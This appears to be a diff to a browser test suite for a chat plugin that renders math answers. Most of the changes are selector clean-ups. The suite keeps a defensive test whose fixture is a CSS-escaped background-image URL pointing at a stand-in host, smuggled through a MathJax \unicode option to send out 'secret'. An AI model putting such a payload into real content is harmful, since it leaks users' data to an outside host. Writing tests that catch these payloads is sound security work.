@@ -2,7 +2,7 @@
 // nothing: at once, later, and in the note.
 import type { Request } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { answered, ask, openChat, startModel } from "../app/chat.ts";
+import { answered, ask, openChat, startAlone, startModel } from "../app/chat.ts";
 import { closePages, loadMath, page } from "../obsidian/browser.ts";
 import type { StandIn } from "../standins/standin.ts";
 import { TIMEOUT_MS } from "./effort.ts";
@@ -35,7 +35,7 @@ async function requests(act: () => Promise<unknown>): Promise<string[]> {
 /** Shows `markdown` as an answer, in pieces. */
 async function show(markdown: string): Promise<void> {
   model.script({ parts: markdown.match(/[^]{1,40}/g) ?? [] });
-  await page.locator("[aria-label='New conversation']").click();
+  await startAlone();
   await ask("Show me.");
   await answered();
 }
@@ -56,10 +56,8 @@ const renderSaved = (): Promise<string> =>
     return note;
   });
 
-const text = async (): Promise<string> =>
-  (await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text").innerText()).trim();
-const formulas = (): Promise<number> =>
-  page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text mjx-container").count();
+const text = async (): Promise<string> => (await page.locator(".lectern-chat-text").innerText()).trim();
+const formulas = (): Promise<number> => page.locator(".lectern-chat-text mjx-container").count();
 
 const STYLE = "background-image:url(\\68 ttps:\\2f\\2f evil.invalid/u1?d=secret)";
 const UNICODE = `\\unicode[a;${STYLE}]{65}`;
@@ -97,7 +95,7 @@ describe.each(["now", "later"] as const)("rendered %s", (when) => {
       await renderLate();
     };
     expect(await requests(act)).toEqual([]);
-    expect(await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text [style*='url']").count()).toBe(0);
+    expect(await page.locator(".lectern-chat-text [style*='url']").count()).toBe(0);
     expect(await requests(async () => expect(await renderSaved()).toContain("Look:"))).toEqual([]);
   });
 
@@ -108,15 +106,11 @@ describe.each(["now", "later"] as const)("rendered %s", (when) => {
       const display = `$$\n\\begin{align}\n${BOX} \\\\\n- y\n\\end{align}\n$$`;
       await show(`$a<b$, $\\frac12$ and $${UNICODE}$.\n\n${display}\n\n> $x$ and $\\foo_a*b*\`\`$`);
       await renderLate();
-      const code = page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text code");
+      const code = page.locator(".lectern-chat-text code");
       expect(await code.allTextContents()).toEqual([`$${UNICODE}$`, ...display.split("\n"), "$\\foo_a*b*``$"]);
       expect(await formulas()).toBe(3);
-      expect(
-        await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text :is(mjx-merror, mjx-utext)").count(),
-      ).toBe(0);
-      expect(await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text").innerHTML()).not.toContain(
-        "\ufdd0",
-      );
+      expect(await page.locator(".lectern-chat-text :is(mjx-merror, mjx-utext)").count()).toBe(0);
+      expect(await page.locator(".lectern-chat-text").innerHTML()).not.toContain("\ufdd0");
     },
   );
 
@@ -131,15 +125,9 @@ describe.each(["now", "later"] as const)("rendered %s", (when) => {
     await show(MATHEMATICS.map((formula) => `$${formula}$`).join("\n\n"));
     await renderLate();
     expect(await formulas()).toBe(MATHEMATICS.length);
-    expect(
-      await page
-        .locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text :is(mjx-merror, code)")
-        .allTextContents(),
-    ).toEqual([]);
+    expect(await page.locator(".lectern-chat-text :is(mjx-merror, code)").allTextContents()).toEqual([]);
     // What is not defined would be red.
-    expect(
-      await page.locator(".lectern-chat-open:not(.is-hidden) .lectern-chat-text [style*='color: red']").count(),
-    ).toBe(1);
+    expect(await page.locator(".lectern-chat-text [style*='color: red']").count()).toBe(1);
   });
 });
 
